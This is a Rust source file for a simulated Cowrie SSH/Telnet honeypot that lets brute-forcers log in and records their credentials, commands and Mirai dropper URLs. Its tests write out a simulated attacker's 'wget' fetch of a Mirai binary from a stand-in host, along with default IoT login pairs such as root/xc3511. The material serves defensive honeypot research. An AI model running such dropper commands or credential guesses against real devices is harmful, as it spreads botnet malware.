//! Cowrie — the SSH/Telnet medium-interaction honeypot.
//!
//! Deployed as "SSH server with IoT banner" (Table 7). Cowrie's signature
//! move is *letting brute-forcers in* after a few attempts so their shell
//! session can be recorded: credentials feed Table 12, `wget`/`curl` dropper
//! commands and the binaries that follow feed Table 13, and §5.1.1's 113
//! Mirai variants were all captured this way.

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::{ports, Protocol};

use crate::deployed::common::{
    extract_url, looks_like_binary, LoginMachine, LoginState, LoginStep, Sessions,
};
use crate::deployed::DeployedHoneypot;
use crate::events::{AttackEvent, EventKind, EventLog};

/// The Cowrie honeypot agent.
pub struct CowrieHoneypot {
    pub log: EventLog,
    ssh: LoginMachine,
    telnet: LoginMachine,
    sessions: Sessions<LoginState>,
}

impl Default for CowrieHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl CowrieHoneypot {
    pub fn new() -> Self {
        let mut ssh = LoginMachine::new(3);
        ssh.accept_creds.push(("root".into(), "root".into()));
        ssh.accept_creds.push(("admin".into(), "admin".into()));
        let mut telnet = LoginMachine::new(3);
        telnet.accept_creds.push(("admin".into(), "admin".into()));
        telnet.accept_creds.push(("root".into(), "xc3511".into()));
        CowrieHoneypot {
            log: EventLog::new("Cowrie"),
            ssh,
            telnet,
            sessions: Sessions::default(),
        }
    }
}

impl DeployedHoneypot for CowrieHoneypot {
    fn drain(&mut self) -> (Vec<AttackEvent>, u64) {
        (std::mem::take(&mut self.log.events), self.sessions.shed())
    }
}

impl Agent for CowrieHoneypot {
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let protocol = match local_port {
            ports::SSH => Protocol::Ssh,
            ports::TELNET | ports::TELNET_ALT => Protocol::Telnet,
            _ => return TcpDecision::Refuse,
        };
        if !self
            .sessions
            .admit(&mut self.log, ctx.now(), conn, protocol, peer)
        {
            return TcpDecision::Refuse;
        }
        let banner: Vec<u8> = match protocol {
            // Cowrie's IoT-flavoured SSH identification.
            Protocol::Ssh => b"SSH-2.0-dropbear_2014.66\r\n".to_vec(),
            // Cowrie's characteristic Telnet banner (also its Table 6
            // fingerprint when found in the wild): IAC DO NAWS + login.
            _ => b"\xff\xfd\x1flogin: ".to_vec(),
        };
        TcpDecision::accept_with(banner)
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some(s) = self.sessions.get_mut(conn) else {
            return;
        };
        let now = ctx.now();
        // Binary payloads (echo-loader style dropper bodies).
        if looks_like_binary(data) {
            let drop = EventKind::PayloadDrop {
                payload: data.to_vec(),
                url: None,
            };
            s.log(&mut self.log, now, drop);
            return;
        }
        let ssh = s.protocol == Protocol::Ssh;
        let machine = if ssh { &self.ssh } else { &self.telnet };
        for line in s.lines(data) {
            if ssh {
                if s.ssh_auth(ctx, conn, &mut self.log, machine, &line) {
                    continue;
                }
                if line.starts_with("SSH-") {
                    // Acknowledge the client identification so the peer's
                    // state machine proceeds (stand-in for KEXINIT).
                    ctx.tcp_send(conn, "KEXINIT\n");
                    continue;
                }
            }
            match machine.feed(&mut s.state, &line) {
                LoginStep::Prompt(p) => ctx.tcp_send(conn, p),
                LoginStep::Attempt {
                    username,
                    password,
                    success,
                } => {
                    let attempt = EventKind::LoginAttempt {
                        username,
                        password,
                        success,
                    };
                    s.log(&mut self.log, now, attempt);
                    ctx.tcp_send(
                        conn,
                        if success {
                            "\r\nBusyBox v1.19.3 (2013-11-01 10:10:26 CST) built-in shell (ash)\r\n# "
                        } else {
                            "\r\nLogin incorrect\r\nlogin: "
                        },
                    );
                }
                LoginStep::Command(cmd) => {
                    let url = extract_url(&cmd);
                    s.log(&mut self.log, now, EventKind::Command { line: cmd });
                    if let Some(url) = url {
                        // The dropper fetch: the binary arrives as a later
                        // raw write; the URL itself is logged now.
                        let drop = EventKind::PayloadDrop {
                            payload: Vec::new(),
                            url: Some(url),
                        };
                        s.log(&mut self.log, now, drop);
                    }
                    ctx.tcp_send(conn, "# ");
                }
            }
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.sessions.close(conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct Bot {
        dst: SockAddr,
        script: Vec<&'static [u8]>,
        step: usize,
    }

    impl Agent for Bot {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, _data: &Payload) {
            if self.step < self.script.len() {
                let msg = self.script[self.step].to_vec();
                self.step += 1;
                ctx.tcp_send(conn, msg);
            }
        }
    }

    fn run(port: u16, script: Vec<&'static [u8]>) -> EventLog {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 10);
        let hid = net.attach(haddr, Box::new(CowrieHoneypot::new()));
        net.attach(
            ip(16, 1, 0, 99),
            Box::new(Bot {
                dst: SockAddr::new(haddr, port),
                script,
                step: 0,
            }),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast_mut::<CowrieHoneypot>(hid).unwrap();
        std::mem::take(&mut h.log)
    }

    #[test]
    fn telnet_bruteforce_is_logged_and_eventually_accepted() {
        let log = run(
            23,
            vec![
                b"root\n",
                b"wrongpass\n",
                b"admin\n",
                b"admin\n", // known-good pair
                b"wget http://16.3.0.1/mirai.arm7\n",
            ],
        );
        let attempts: Vec<_> = log
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::LoginAttempt {
                    username,
                    password,
                    success,
                } => Some((username.clone(), password.clone(), *success)),
                _ => None,
            })
            .collect();
        assert_eq!(attempts.len(), 2);
        assert_eq!(attempts[0], ("root".into(), "wrongpass".into(), false));
        assert_eq!(attempts[1], ("admin".into(), "admin".into(), true));
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::PayloadDrop { url: Some(u), .. } if u == "http://16.3.0.1/mirai.arm7"
        )));
        assert!(log
            .events
            .iter()
            .any(|e| matches!(&e.kind, EventKind::Command { line } if line.contains("wget"))));
    }

    #[test]
    fn ssh_auth_framing() {
        let log = run(
            22,
            vec![b"SSH-2.0-attacker\n", b"AUTH admin admin\n", b"uname -a\n"],
        );
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::LoginAttempt { username, success: true, .. } if username == "admin"
        )));
        assert!(log
            .events
            .iter()
            .any(|e| e.protocol == Protocol::Ssh
                && matches!(&e.kind, EventKind::Command { line } if line == "uname -a")));
    }

    #[test]
    fn binary_payload_captured() {
        let log = run(23, vec![b"\x7fELF\x01\x01\x01\x00MIRAIBYTES"]);
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::PayloadDrop { payload, .. } if looks_like_binary(payload)
        )));
    }

    #[test]
    fn connection_always_logged() {
        let log = run(23, vec![]);
        assert!(matches!(log.events[0].kind, EventKind::Connection));
        assert_eq!(log.events[0].honeypot, "Cowrie");
    }
}
